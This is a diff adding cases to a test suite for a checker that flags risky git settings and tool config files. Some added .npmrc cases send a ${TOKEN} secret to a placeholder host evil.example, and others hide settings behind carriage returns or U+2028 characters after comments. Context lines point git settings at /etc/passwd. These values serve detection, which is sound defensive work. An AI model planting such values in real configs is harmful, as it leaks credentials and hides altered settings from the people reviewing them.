@@ -252,6 +252,10 @@ describe.runIf(has('git'))('what git runs is known before it runs', () => {
     ['\tworktree = ../..\n'],
     ['[format]\n\tsignatureFile = /etc/passwd\n'],
     ['[blame]\n\tignoreRevsFile = /etc/passwd\n'],
+    ['[format]\n\tpretty = %h %G?\n'],
+    ['[format]\n\tpretty = %+GK\n'],
+    ['[tag]\n\tsort = signature:grade\n'],
+    ['[branch]\n\tsort = -signature\n'],
     ['not settings at all'],
   ])('may run something: %j', (settings) => {
     const directory = repository();
@@ -407,6 +411,14 @@ describe('files', () => {
     ['npm', '.npmrc', '//evil.example/:_authToken=${TOKEN}\n', true],
     ['npm', '.npmrc', 'message = ${TOKEN}\n', true],
     ['npm', '.npmrc', 'git=./evil\n', true],
+    ['npm', '.npmrc', '# x\r\nsave-exact=true\r\n', false],
+    ['npm', '.npmrc', '# x\rregistry=http://evil.example/${TOKEN}/\n', true],
+    ['npm', '.npmrc', 'registry=https://registry.npmjs.org\r;@evil.example/\n', true],
+    ['tsc', 'tsconfig.json', '{\r\n// x\r\n"compilerOptions":{"incremental":true}}', false],
+    ['tsc', 'tsconfig.json', '{// x\r"compilerOptions":{"incremental":true,"outDir":"/x"}}', true],
+    ['tsc', 'tsconfig.json', '{// x\u2028"compilerOptions":{"incremental":true,"outDir":"/x"}\n}', true],
+    ['ruff', 'ruff.toml', '# x\rline-length = 100\n', true],
+    ['formatter', 'pyproject.toml', '# x\rline-length = 100\n', true],
     ['ruff', 'pyproject.toml', '[tool.ruff]\nline-length = 100\n', false],
     ['ruff', 'ruff.toml', 'fix = true\n', true],
     ['ruff', 'pyproject.toml', '[tool]\nruff = { "fix" = true }\n', true],
@@ -431,6 +443,16 @@ describe('files', () => {
   ] as const)('settings of %s in %s: %j', (settings, name, text, loads) => {
     const condition = { type: 'files', directory: place({ [name]: text }), names: [name], settings } as const;
     expect(conditionHolds(condition, home)).toBe(loads);
+  });
+
+  test('a file is the one that the system finds behind a link', () => {
+    const directory = place({ 'x.npmrc': '', 'far/x.npmrc': 'git=./evil\n', 'far/d/a': '' });
+    symlinkSync('far/d', join(directory, 'near'));
+    const holds = (name: string): boolean =>
+      conditionHolds({ type: 'files', directory, names: [name], settings: 'npm' }, home);
+    expect(holds('x.npmrc')).toBe(false);
+    expect(holds('far/../x.npmrc')).toBe(false);
+    expect(holds('near/../x.npmrc')).toBe(true);
   });
 
   test('what the compiler writes is told by all files that its settings build on', () => {
